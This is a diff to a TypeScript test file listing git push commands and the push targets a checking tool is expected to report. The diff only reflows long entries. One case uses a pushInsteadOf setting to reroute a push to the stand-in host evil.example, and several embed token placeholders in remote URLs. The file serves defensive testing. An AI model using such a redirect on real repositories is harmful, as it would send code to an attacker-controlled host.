@@ -120,7 +120,10 @@ const REMOTES: readonly Case[] = [
   ['git push https://x-access-token:${TOKEN}@github.com/acme/app.git HEAD:main', 'branch main'],
   ['git push https://${{ secrets.USER }}:${{ secrets.PAT }}@github.com/acme/app HEAD:main', 'branch main'],
   ['git push https://x:$T@github.com/${{ github.repository }}.git main', 'branch main'],
-  ['git push ${GITHUB_SERVER_URL}/$GITHUB_REPOSITORY main', '? whether `${GITHUB_SERVER_URL}/$GITHUB_REPOSITORY` is a remote'],
+  [
+    'git push ${GITHUB_SERVER_URL}/$GITHUB_REPOSITORY main',
+    '? whether `${GITHUB_SERVER_URL}/$GITHUB_REPOSITORY` is a remote',
+  ],
   ['git push https://x:$T@${GITHUB_SERVER_URL#https://}/$GITHUB_REPOSITORY main', 'branch main'],
   ['git push --repo=${GITHUB_SERVER_URL}/$GITHUB_REPOSITORY', 'branch main'],
   ['git push git@github.com:acme/app.git main', 'branch main'],
@@ -144,7 +147,10 @@ const REMOTES: readonly Case[] = [
   ['git push . HEAD:other'],
   ['git push fork main', 'branch main in remote fork'],
   ['GITHUB_SERVER_URL=https://ghe.acme.example git push https://x:$T@ghe.acme.example/acme/app main', 'branch main'],
-  ['GITHUB_SERVER_URL=https://ghe.acme.example git push https://github.com/acme/app main', 'branch main in github.com/acme/app'],
+  [
+    'GITHUB_SERVER_URL=https://ghe.acme.example git push https://github.com/acme/app main',
+    'branch main in github.com/acme/app',
+  ],
 ];
 
 const GLOBALS: readonly Case[] = [
@@ -169,7 +175,11 @@ const GLOBALS: readonly Case[] = [
   ['git --git-dir .git push origin main', 'branch main'],
   ['git --git-dir=other.git push origin main', '? which repository `other.git` is a clone of'],
   ['git --exec-path=/x --namespace n --bare push origin main', 'branch main', '! commands of git from another folder'],
-  ['git -c remote.origin.url=https://github.com/acme/other push origin main', 'branch main', 'branch main in acme/other'],
+  [
+    'git -c remote.origin.url=https://github.com/acme/other push origin main',
+    'branch main',
+    'branch main in acme/other',
+  ],
   ['git -c remote.origin.pushurl=https://github.com/acme/other push origin main', 'branch main in acme/other'],
   ['git -c push.default=matching push', 'every-branch'],
   ['git -c push.default=current push', 'branch main'],
@@ -181,9 +191,15 @@ const GLOBALS: readonly Case[] = [
   ['git -c remote.origin.mirror=true push', 'force every-branch', 'force every-tag'],
   ['git -c remote.pushDefault=fork push', 'branch main in remote fork'],
   ['git -c url.https://x:$T@github.com/.insteadOf=https://github.com/ push', 'branch main'],
-  ['git -c url.https://github.com/acme/other.insteadOf=https://github.com/acme/app push', 'branch main in acme/app, which git is configured to rewrite'],
+  [
+    'git -c url.https://github.com/acme/other.insteadOf=https://github.com/acme/app push',
+    'branch main in acme/app, which git is configured to rewrite',
+  ],
   ['git -c url.https://github.com/.insteadOf=gh: push gh:acme/app main', 'branch main'],
-  ['git -c url.https://evil.example/.pushInsteadOf=https://github.com/ push https://github.com/acme/app main', 'branch main in evil.example/acme/app'],
+  [
+    'git -c url.https://evil.example/.pushInsteadOf=https://github.com/ push https://github.com/acme/app main',
+    'branch main in evil.example/acme/app',
+  ],
   ['git -c $CONFIG push origin main', '? what git is configured to'],
   ['git -c include.path=x push origin main', '? what git is configured to'],
   ['GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=push.default GIT_CONFIG_VALUE_0=matching git push', 'every-branch'],
